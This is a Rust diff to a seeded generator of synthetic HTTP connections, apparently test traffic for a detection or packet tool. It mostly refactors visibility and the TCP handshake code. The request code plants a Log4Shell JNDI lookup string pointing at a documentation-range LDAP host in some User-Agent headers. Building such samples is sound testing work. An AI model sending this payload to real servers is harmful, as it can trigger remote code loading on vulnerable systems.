@@ -1,14 +1,12 @@
 //! HTTP connections as web servers see them, drawn from a seeded generator.
 
-use std::net::Ipv4Addr;
+use std::net::{Ipv4Addr, SocketAddr};
 
-use clap::ValueEnum;
-
-use crate::tcp::{ACK, Connection, FIN, From, PSH, SEGMENT_BYTES_MAX, SYN};
+use crate::tcp::{ACK, Connection, Ends, FIN, From, PSH, SEGMENT_BYTES_MAX};
 
 /// What a connection carries.
-#[derive(Clone, Copy, Debug, PartialEq, Eq, ValueEnum)]
-pub(crate) enum Kind {
+#[derive(Clone, Copy, Debug, PartialEq, Eq)]
+pub enum Kind {
     /// One request of some 350 bytes and one response of some 800: 10 frames.
     HttpSmall,
     /// One request and a response of 256 KiB.
@@ -33,11 +31,11 @@ const WORDS: [&str; 16] = [
 
 /// xorshift64*: the same on every machine.
 #[derive(Clone, Debug)]
-pub(crate) struct Random(u64);
+pub struct Random(u64);
 
 impl Random {
     /// A generator; any seed but 0 does.
-    pub(crate) fn new(seed: u64) -> Random {
+    pub fn new(seed: u64) -> Random {
         Random(seed.max(1))
     }
 
@@ -49,7 +47,7 @@ impl Random {
     }
 
     /// A number below `end`.
-    pub(crate) fn below(&mut self, end: u32) -> u32 {
+    pub fn below(&mut self, end: u32) -> u32 {
         ((self.next() >> 32) * u64::from(end) >> 32) as u32
     }
 
@@ -59,21 +57,18 @@ impl Random {
 }
 
 /// The frames of connection number `index`.
-pub(crate) fn connection(kind: Kind, index: u32, random: &mut Random) -> Vec<Vec<u8>> {
+pub fn connection(kind: Kind, index: u32, random: &mut Random) -> Vec<Vec<u8>> {
     // An odd factor permutes the 24 bits of the host: addresses look random, and none comes twice.
     let host = Ipv4Addr::from(0x0a00_0000 | (index.wrapping_mul(0x9e37_79b1) & 0x00ff_ffff));
-    let client = (host, 20_000 + (index % 16_384) as u16);
-    let server = (Ipv4Addr::new(192, 0, 2, 1 + random.below(8) as u8), 80);
-    let mut connection = Connection::new(client, server, [random.below(u32::MAX), random.below(u32::MAX)]);
+    let client = SocketAddr::from((host, 20_000 + (index % 16_384) as u16));
+    let server = SocketAddr::from((Ipv4Addr::new(192, 0, 2, 1 + random.below(8) as u8), 80));
+    let sequences = [random.below(u32::MAX), random.below(u32::MAX)];
+    let mut connection = Connection::new(Ends::new(client, server, &[]), sequences);
     let request = request(index, random);
     let response = response(kind, random);
-    let mut frames = vec![
-        connection.segment(From::Client, SYN, b""),
-        connection.segment(From::Server, SYN | ACK, b""),
-        connection.segment(From::Client, ACK, b""),
-        connection.segment(From::Client, PSH | ACK, &request),
-        connection.segment(From::Server, ACK, b""),
-    ];
+    let mut frames = connection.handshake();
+    frames.push(connection.segment(From::Client, PSH | ACK, &request));
+    frames.push(connection.segment(From::Server, ACK, b""));
     for (number, piece) in response.chunks(SEGMENT_BYTES_MAX).enumerate() {
         frames.push(connection.segment(From::Server, PSH | ACK, piece));
         // Every other segment is acknowledged (RFC 9293 §3.8.6.3).
@@ -88,7 +83,8 @@ pub(crate) fn connection(kind: Kind, index: u32, random: &mut Random) -> Vec<Vec
     frames
 }
 
-fn request(index: u32, random: &mut Random) -> Vec<u8> {
+/// The request of connection number `index`, of some 350 bytes.
+pub fn request(index: u32, random: &mut Random) -> Vec<u8> {
     let agent = match index % ATTACK_EVERY {
         1 => "${jndi:ldap://198.51.100.7/a}",
         _ => AGENTS[random.below(AGENTS.len() as u32) as usize],
@@ -111,7 +107,8 @@ fn request(index: u32, random: &mut Random) -> Vec<u8> {
     .into_bytes()
 }
 
-fn response(kind: Kind, random: &mut Random) -> Vec<u8> {
+/// A response with its headers.
+pub fn response(kind: Kind, random: &mut Random) -> Vec<u8> {
     let bytes = match kind {
         Kind::HttpSmall => 550 + random.below(100) as usize,
         Kind::HttpBulk => BULK_BYTES,
